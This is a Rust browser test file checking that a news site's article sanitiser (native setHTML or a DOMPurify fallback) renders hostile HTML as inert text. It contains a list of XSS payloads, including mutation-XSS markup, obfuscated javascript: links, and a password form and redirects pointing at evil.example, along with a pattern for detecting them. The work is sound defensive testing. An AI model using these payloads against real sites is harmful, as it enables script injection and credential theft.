//! The sanitising door in the browser: the native one, and the one that stands in for it.

use browser_tests::{
    fault::Fault,
    host::Host,
    programs::Browser,
    reader::Reader,
    target::{link, main},
    visit, visit_with,
};
use serde_json::{Value, json};

use crate::article::TRAINING_TITLE;

/// A browser that has no door of its own.
pub const NO_DOOR: &str = "delete Element.prototype.setHTML;";

const ARTICLE: &str = "data/vi/article/tap-huan-cong-tac-binh-dang-gioi-nam-2023.json";

const HOSTILE: &str = r#"<p id="truoc" onclick="window.hacked=1" style="position:fixed;inset:0">Trước</p>
<script>window.hacked = 2</script><img src="/favicon.svg" alt="hình" onload="window.hacked=3">
<img src="/khong-co.png" alt="hỏng" onerror="window.hacked=4"><a href="javascript:window.hacked=5">nhấp</a>
<a href=" java&#115;cript:window.hacked=6">nhấp nữa</a><iframe src="javascript:parent.hacked=7"></iframe>
<style>body { display: none !important }</style><svg onload="window.hacked=8"><script>window.hacked=9</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=10"></style></mglyph></table></mtext></math>
<form action="https://evil.example/"><input name="password"><button>Gửi</button></form>
<object data="/favicon.svg"></object><embed src="/favicon.svg"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<template><img src=x onerror="window.hacked=11"></template><noscript><img src=x onerror="window.hacked=12"></noscript>
<p>Sau</p>"#;

/// What of an article's text can do harm.
const HARM: &str = r"
    const prose = document.querySelector('.prose'), harm = [];
    for (const element of prose.querySelectorAll('*')) {
      if (/^(script|style|iframe|svg|math|form|button|object|embed|base|meta|link|template)$/i.test(element.localName)) {
        harm.push(element.localName);
      }
      for (const { name, value } of element.attributes) {
        if (/^on|^style$|^name$/.test(name)) harm.push(name);
        if (/^\s*javascript:/i.test(value)) harm.push(value);
      }
    }
    if (window.hacked) harm.push('hacked ' + window.hacked);
    return harm;";

/// What the browser says while it reads that: the policy would have stopped it even without the door.
const EXPECTED: &[&str] = &[
    "status of 404",
    "violates the following Content Security Policy",
    "forbidden by the site: style-src",
    "forbidden by the site: base-uri",
    // Chromium 156 tells of handlers in markup that it parses and never shows.
    "forbidden by the site: script-src-attr inline",
];

async fn survive(reader: &Reader, host: &Host) {
    let mut file: Value = serde_json::from_str(&host.text(ARTICLE)).expect("JSON");
    file["article"]["body"] = json!(HOSTILE);
    host.break_at(&format!("/{ARTICLE}"), Fault::Body(file.to_string()));
    reader.read("/chuyen-muc/tap-chi/").await;
    reader.click(link(TRAINING_TITLE).inside(main(""))).await;
    reader.see_page(TRAINING_TITLE).await;
    for text in ["Trước", "nhấp", "nhấp nữa", "Sau"] {
        reader.see_text(text).await;
    }
    // Pictures have loaded or failed by now, and frames and timers had their turn.
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    reader.js("for (const it of document.querySelectorAll('.prose a, .prose p')) it.click()", vec![]).await;
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    assert_eq!(reader.texts(HARM).await, Vec::<String>::new());
    reader.see_page(TRAINING_TITLE).await;
}

#[tokio::test]
async fn hostile_text_is_only_text() {
    visit_with(Browser::Chromium, EXPECTED, survive).await;
}

#[tokio::test]
async fn hostile_text_is_only_text_in_an_older_browser() {
    visit_with(Browser::Chromium, EXPECTED, async |reader, host| {
        reader.before_each_page(NO_DOOR).await;
        survive(reader, host).await;
        assert!(host.asked().contains(&"/fallback/purify.min.js".to_owned()));
    })
    .await;
}

/// Articles with tables, figures, galleries, footnotes and quotes among them.
const RICH: [&str; 8] = [
    "chi-so-uv-doc-the-nao",
    "mot-vong-vuon-quan-trac",
    "muc-bao-dong-lu-mot-hai-ba",
    "rung-ngap-man-buc-tuong-biet-tho",
    "tran-lu-mot-tram-nam",
    "ve-bieu-do-va-ban-do-cho-bai-bao",
    "ve-tinh-khi-tuong-nhin-tu-tren-cao",
    "xam-nhap-man-o-dong-bang-song-cuu-long",
];

/// Text, elements and attributes of an article.
const PROSE: &str = "const all = [...document.querySelectorAll('.prose *')];
    return [tidy(document.querySelector('.prose').textContent), ...all.map((it) =>
      it.localName + [...it.attributes].map(({ name, value }) => ` ${name}=${value}`).sort().join(''))];";

async fn prose(reader: &Reader) -> Vec<Vec<String>> {
    let mut all = Vec::new();
    for slug in RICH {
        reader.read(&format!("/bai-viet/{slug}/")).await;
        reader.wait("the text", "return text('.prose') !== ''").await;
        all.push(reader.texts(PROSE).await);
    }
    all
}

#[tokio::test]
async fn both_doors_let_the_same_text_in() {
    visit(async |reader, host| {
        let native = prose(reader).await;
        assert!(native.iter().all(|text| text.len() > 10));
        assert!(
            !host.asked().iter().any(|path| path.starts_with("/fallback/")),
            "nobody pays for what is not needed"
        );
        reader.before_each_page(NO_DOOR).await;
        let fallback = prose(reader).await;
        for ((slug, native), fallback) in RICH.iter().zip(native).zip(fallback) {
            assert_eq!(native, fallback, "{slug}");
        }
    })
    .await;
}
